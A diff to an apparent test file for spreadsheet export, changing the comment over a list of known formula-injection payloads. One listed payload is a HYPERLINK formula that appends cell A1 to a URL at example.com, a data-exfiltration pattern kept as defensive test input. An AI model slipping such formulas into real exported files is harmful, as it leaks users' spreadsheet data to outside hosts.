@@ -15,7 +15,7 @@ beforeEach(async () => {
 })
 afterEach(() => rm(folder, { recursive: true }))
 
-/** What spreadsheets have been made to run, with what the delimiters and quotes around it can become. */
+/** Known formula injections, with the delimiters and quotes around them. */
 const wellKnown = [
   '=1+1',
   '=HYPERLINK("https://example.com/?"&A1,"Open")',
